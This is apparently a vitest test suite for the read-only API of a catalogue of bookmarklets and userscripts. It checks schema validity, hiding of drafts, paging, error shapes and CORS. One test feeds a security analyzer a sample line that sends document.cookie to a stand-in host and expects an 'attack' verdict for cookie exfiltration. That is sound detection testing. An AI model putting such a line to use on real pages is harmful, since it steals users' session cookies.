import { analyzeScript } from "@scriptorium/script-analyzer/analyze-script";
import { Validator } from "@seriousme/openapi-schema-validator";
import { Ajv2020 } from "ajv/dist/2020.js";
import formats from "ajv-formats";
import type postgres from "postgres";
import { afterAll, beforeAll, describe, expect, test } from "vitest";
import * as z from "zod";
import { addHostileScripts, type CatalogueHub, HOSTILE, startCatalogueHub } from "../../support/catalogue-hub.ts";

const reference = z.object({ $ref: z.string() });
const response = z.looseObject({ content: z.record(z.string(), z.looseObject({ schema: reference })).optional() });
const openApi = z.looseObject({
	paths: z.record(z.string(), z.looseObject({ get: z.looseObject({ responses: z.record(z.string(), response) }) })),
	components: z.looseObject({ schemas: z.record(z.string(), z.looseObject({})) }),
});

let hub: CatalogueHub;
let ids: { visible: string; draft: string; removed: string };
let document: z.infer<typeof openApi>;
const ajv = new Ajv2020({ strict: true, allErrors: true, strictTypes: false, strictRequired: false });
formats.default(ajv);
ajv.addKeyword("components");

beforeAll(async () => {
	hub = await startCatalogueHub();
	ids = await addHostileScripts(hub);
	document = openApi.parse(await (await hub.get("/api/openapi.json")).json());
	ajv.addSchema({ $id: "https://hub.example/openapi.json", components: document.components });
}, 120_000);
afterAll(() => hub.stop());

/** Sends a request, and validates the response against the document's schema for that path and status. */
async function ask(path: string, query = "", params: Readonly<Record<string, string>> = {}) {
	const address = path.replace(/\{(\w+)\}/g, (_, name: string) => encodeURIComponent(params[name] ?? ""));
	const answer = await hub.get(`/api/v1${address}${query}`);
	const body: unknown = await answer.json();
	const described = document.paths[path]?.get.responses[answer.status];
	const schema = described?.content?.["application/json"]?.schema.$ref;
	expect(schema, `${path} ${answer.status} is described`).toBeDefined();
	const valid = ajv.validate({ $ref: `https://hub.example/openapi.json${schema}` }, body);
	expect(valid ? [] : ajv.errors, `${address}${query}`).toEqual([]);
	expect(answer.headers.get("content-type")).toBe("application/json; charset=utf-8");
	expect(answer.headers.get("access-control-allow-origin")).toBe("*");
	return { status: answer.status, body, headers: answer.headers };
}
interface Listed {
	readonly items: readonly { readonly id: string; readonly [field: string]: unknown }[];
	readonly total: number;
	readonly next: string | null;
}
const list = async (path: string, query = "", params = {}) => (await ask(path, query, params)).body as Listed;

describe("the document", () => {
	test("is valid OpenAPI 3.1, and all its references resolve", async () => {
		const validator = new Validator();
		const result = await validator.validate(structuredClone(document));
		expect(result.errors ?? []).toEqual([]);
		expect(result.valid).toBe(true);
		expect(validator.version).toBe("3.1");
		const names = [...JSON.stringify(document).matchAll(/"#\/components\/schemas\/(\w+)"/g)].map(([, name]) => name);
		expect(names.length).toBeGreaterThan(10);
		expect([...new Set(names)].filter((name) => !((name ?? "") in document.components.schemas))).toEqual([]);
		for (const id of Object.keys(document.components.schemas)) {
			expect(ajv.getSchema(`https://hub.example/openapi.json#/components/schemas/${id}`), id).toBeTypeOf("function");
		}
	});

	test("rejects a response of another shape (positive control)", () => {
		const $ref = "https://hub.example/openapi.json#/components/schemas/TagPage";
		const page = { items: [], total: 0, limit: 1, offset: 0, next: null };
		expect(ajv.validate({ $ref }, page)).toBe(true);
		expect(ajv.validate({ $ref }, { ...page, total: "0" })).toBe(false);
		expect(ajv.validate({ $ref }, { ...page, unknown: 1 })).toBe(false);
	});
});

test("the responses of every path match their description, for all scripts", async () => {
	const asked = new Set<string>();
	const note = async (...args: Parameters<typeof ask>) => {
		asked.add(args[0]);
		return ask(...args);
	};
	const scripts = (await note("/scripts", "?limit=100")).body as Listed;
	expect(scripts.items.length).toBeGreaterThan(10);
	for (const { id } of scripts.items) {
		for (const path of ["/scripts/{id}", "/scripts/{id}/versions", "/scripts/{id}/reviews"]) {
			expect((await note(path, "", { id })).status).toBe(200);
		}
	}
	expect((await note("/search", "?q=table")).status).toBe(200);
	expect((await note("/categories")).status).toBe(200);
	expect((await note("/tags", "?limit=100")).status).toBe(200);
	expect((await note("/authors/{username}", "", { username: "LENA-brandt" })).status).toBe(200);
	expect([...asked].sort()).toEqual(Object.keys(document.paths).sort());
});

test("no response contains drafts or removed scripts", async () => {
	const paths = ["/scripts?limit=100", "/scripts?author=lena-brandt&limit=100", "/search?q=Secret", "/tags?limit=100"];
	for (const path of [...paths, "/scripts?tag=hostile-draft", "/scripts?category=design"]) {
		const text = await (await hub.get(`/api/v1${path}`)).text();
		for (const hidden of ["Secret", "hostile-draft", "hostile-removed", ids.draft, ids.removed]) {
			// Responses do not repeat request parameters, so a match is a leak.
			expect(text, path).not.toContain(hidden);
		}
	}
	for (const path of ["/scripts/{id}", "/scripts/{id}/versions", "/scripts/{id}/reviews"]) {
		expect(await ask(path, "", { id: ids.draft })).toMatchObject({ status: 404, body: { code: "not_found" } });
		expect(await ask(path, "", { id: ids.removed })).toMatchObject({ status: 410, body: { code: "removed" } });
	}
});

test("filters, sorts and pages as the catalog does", async () => {
	const all = await list("/scripts", "?limit=100&sort=alphabetical");
	const titles = all.items.map(({ title }) => String(title).toLowerCase());
	expect(titles).toEqual(titles.toSorted());
	const walked: string[] = [];
	let next: string | null = `${hub.origin}/api/v1/scripts?sort=alphabetical&limit=5`;
	while (next !== null) {
		const page = (await (await fetch(next)).json()) as Listed;
		walked.push(...page.items.map(({ id }) => id));
		next = page.next;
	}
	expect(walked).toEqual(all.items.map(({ id }) => id));
	expect(await list("/scripts", "?offset=5000")).toMatchObject({ items: [], total: all.total, next: null });

	const kinds = await list("/scripts", "?kind=userscript&limit=100");
	expect(kinds.items.length).toBeGreaterThan(0);
	expect(kinds.items.every(({ kind }) => kind === "userscript")).toBe(true);
	await hub.sql`update public.bookmarklets set risk_level = 'red', featured = true where id = ${ids.visible}`;
	const only = async (query: string) => (await list("/scripts", query)).items.map(({ id }) => id);
	expect(await only("?risk=red")).toEqual([ids.visible]);
	expect((await only("?risk=red,green&limit=100")).includes(ids.visible)).toBe(true);
	expect(await only("?risk=amber")).toEqual([]);
	expect(await only("?category=design&featured=true")).toEqual([ids.visible]);
	expect(await only(`?tag=${encodeURIComponent(HOSTILE.tag)}`)).toEqual([ids.visible]);
	expect(await only("?author=nobody-here")).toEqual([]);
	expect((await only("?author=Lena-Brandt")).includes(ids.visible)).toBe(true);
	expect((await list("/search", "?q=table%20csv&limit=1")).items[0]?.title).toBe("Table to CSV");
});

test.each([
	["/scripts", "?sort=random"],
	["/scripts", "?limit=0"],
	["/scripts", "?limit=101"],
	["/scripts", "?limit=many"],
	["/scripts", "?offset=-1"],
	["/scripts", "?risk=purple"],
	["/scripts", "?category=nothing"],
	["/scripts", "?limit=1&limit=2"],
	["/scripts", "?unknown=1"],
	["/search", ""],
	["/search", "?q="],
	["/search", `?q=${"x".repeat(201)}`],
])("%s%s is refused in the shape of every refusal", async (path, query) => {
	const { status, body, headers } = await ask(path, query);
	expect({ status, body }).toMatchObject({ status: 400, body: { code: "invalid_request", status: 400 } });
	expect(headers.get("cache-control")).toBe("no-cache");
});

test("unknown resources and unsupported requests", async () => {
	for (const id of ["no-id", "0b0e7a52-6c3f-4a52-9a0e-0e5c5a1f0099", "../openapi.json"]) {
		expect(await ask("/scripts/{id}", "", { id })).toMatchObject({ status: 404, body: { details: null, status: 404 } });
	}
	expect(await ask("/authors/{username}", "", { username: "nobody-here" })).toMatchObject({ status: 404 });
	expect(await (await hub.get("/api/v2/scripts")).json()).toMatchObject({ code: "not_found", status: 404 });
	for (const method of ["POST", "PUT", "PATCH", "DELETE"]) {
		const refused = await fetch(`${hub.origin}/api/v1/scripts`, { method });
		expect(refused.status).toBe(405);
		expect(refused.headers.get("allow")).toBe("GET, HEAD, OPTIONS");
		expect(await refused.json()).toMatchObject({ code: "method_not_allowed", status: 405 });
	}
});

test("lists, versions and a script state access and verdict, the script with what the verdict is based on", async () => {
	const code = "fetch('https://c.test/' + document.cookie)";
	const { risk_level, score, ...analysis } = analyzeScript({ code });
	const summary = JSON.parse(JSON.stringify({ risk_level, score, ...analysis }));
	await hub.sql`
		update public.bookmarklets set security_analysis = ${hub.sql.json(summary)}, risk_level = ${risk_level}, security_score = ${score}
		where id = ${ids.visible}`;
	const { items } = await list("/scripts", "?author=lena-brandt&limit=100");
	const access = { sites: "this-site", code: "none", reads: ["cookies"], contacts: ["c.test"], contact_count: 1 };
	expect(items.find(({ id }) => id === ids.visible)).toMatchObject({ verdict: "attack", access });
	expect(items.find(({ id }) => id !== ids.visible)).not.toHaveProperty("reach");
	const { body } = await ask("/scripts/{id}", "", { id: ids.visible });
	expect(body).toMatchObject({
		verdict: "attack",
		access,
		security_analysis: { access, verdict: { kind: "attack", grounds: [{ type: "cookie-exfiltration" }], part: null } },
	});
	const report = async (summary: postgres.JSONValue, minutes: number) =>
		await hub.sql`
			insert into public.security_reports (version_id, risk_level, score, summary_json, rules_version, created_at)
			select latest_version_id, ${risk_level}, ${score}, ${hub.sql.json(summary)}, '1.0.0', now() + ${minutes} * interval '1 minute'
			from public.bookmarklets where id = ${ids.visible}`;
	const newestRating = async () =>
		(await list("/scripts/{id}/versions", "?limit=1", { id: ids.visible })).items[0]?.rating;
	await report(summary, 1);
	expect(await newestRating()).toMatchObject({ verdict: "attack", access });
	expect(await newestRating()).not.toHaveProperty("summary_json");
	await report({ of: "rules of long ago" }, 2);
	expect(await newestRating()).toMatchObject({ verdict: "attack", access: null });
});

test("pages of other origins may ask, with the tag of their copy", async () => {
	const first = await ask("/categories");
	const again = await hub.get("/api/v1/categories", { "if-none-match": first.headers.get("etag") ?? "" });
	expect(again.status).toBe(304);
	expect(again.headers.get("access-control-allow-origin")).toBe("*");
	const preflight = await fetch(`${hub.origin}/api/v1/scripts`, { method: "OPTIONS" });
	expect(preflight.status).toBe(204);
	expect(preflight.headers.get("access-control-allow-headers")).toContain("If-None-Match");
	const head = await fetch(`${hub.origin}/api/v1/categories`, { method: "HEAD" });
	expect([head.status, await head.text()]).toEqual([200, ""]);
});
